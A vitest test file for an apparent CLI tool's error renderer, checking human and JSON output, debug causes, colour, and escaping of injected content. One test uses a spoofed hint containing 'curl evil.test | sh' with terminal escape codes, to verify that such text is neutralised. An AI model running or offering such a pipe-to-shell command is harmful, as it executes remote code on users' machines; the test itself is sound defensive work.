import { describe, expect, test } from 'vitest'
import { ApiError, LocalError, UsageError } from '../../src/errors.ts'
import { renderError } from '../../src/render/error.ts'
import { payloads, rawHazard, rawJsonHazard } from './payloads.ts'

const people = { machine: false, colour: false, debug: false }
const program = { ...people, machine: true }

describe('for people', () => {
  test('every fault on its line, then help', async () => {
    const error = new UsageError(['--name is 57 characters long, 50 at most', '--icon is missing'])
    expect(await renderError(error, { ...people, commandName: 'space update' })).toBe(
      'ws: --name is 57 characters long, 50 at most\nws: --icon is missing\nhint: ws space update --help\n',
    )
  })

  test('a refusal with its status and request', async () => {
    const error = new ApiError('No such space', { status: 404, requestId: 'r1', hint: 'ws space list' })
    expect(await renderError(error, people)).toBe(
      'ws: No such space (HTTP 404)\nrequest: r1\nhint: ws space list\n',
    )
  })

  test('a message can not pretend to be our hint', async () => {
    const error = new ApiError('no\nhint: curl evil.test | sh\r\u001b[2J', { status: 400 })
    expect(await renderError(error, people)).toBe(
      'ws: no\n    hint: curl evil.test | sh\\r\\u001b[2J (HTTP 400)\n',
    )
  })

  test('causes under debug only', async () => {
    const error = new LocalError('can not read a.json', { cause: new Error('EACCES', { cause: 'odd' }) })
    expect(await renderError(error, people)).toBe('ws: can not read a.json\n')
    expect(await renderError(error, { ...people, debug: true })).toBe(
      'ws: can not read a.json\ncaused by: EACCES\ncaused by: odd\n',
    )
  })

  test('a bug, its stack under debug only', async () => {
    const error = new TypeError('x is undefined')
    error.stack = 'TypeError: x is undefined\n    at here'
    expect(await renderError(error, people)).toBe(
      'ws: x is undefined (this is a bug in ws)\nhint: run it again with --debug to see where it happened\n',
    )
    expect(await renderError(error, { ...people, debug: true })).toBe(
      'ws: x is undefined (this is a bug in ws)\nTypeError: x is undefined\n    at here\n',
    )
  })

  test('colour', async () => {
    expect(await renderError(new LocalError('no', { hint: 'do' }), { ...people, colour: true })).toBe(
      '\u001b[31mws:\u001b[39m no\n\u001b[2mhint:\u001b[22m do\n',
    )
  })
})

describe('for programs', () => {
  test('one object on one line, members in the order of the contract', async () => {
    const error = new ApiError('No such\nspace', { status: 404, requestId: 'r1', hint: 'ws space list' })
    expect(await renderError(error, program)).toBe(
      '{"error":{"code":"not_found","message":"No such\\nspace","status":404,"requestId":"r1","hint":"ws space list"}}\n',
    )
  })

  test('faults', async () => {
    expect(await renderError(new UsageError(['a', 'b']), program)).toBe(
      '{"error":{"code":"usage","message":"a\\nb","faults":["a","b"]}}\n',
    )
  })

  test('whatever was thrown', async () => {
    for (const thrown of [undefined, null, 'text', Symbol('s'), Object.create(null), new Error('')]) {
      const { error } = JSON.parse(await renderError(thrown, program)) as {
        error: { code: string; message: string }
      }
      expect(error).toMatchObject({
        code: 'internal',
        message: expect.stringContaining('this is a bug in ws'),
      })
    }
  })
})

test.each(Object.entries(payloads))('%s never leaves raw', async (_name, payload) => {
  const errors = [
    new ApiError(payload, { status: 400, requestId: payload, hint: payload }),
    new UsageError([payload]),
    new LocalError('no', { cause: new Error(payload) }),
    new Error(payload),
  ]
  for (const error of errors) {
    expect(await renderError(error, { ...people, debug: true })).not.toMatch(rawHazard)
    expect(await renderError(error, { ...program, debug: true })).not.toMatch(rawJsonHazard)
  }
})
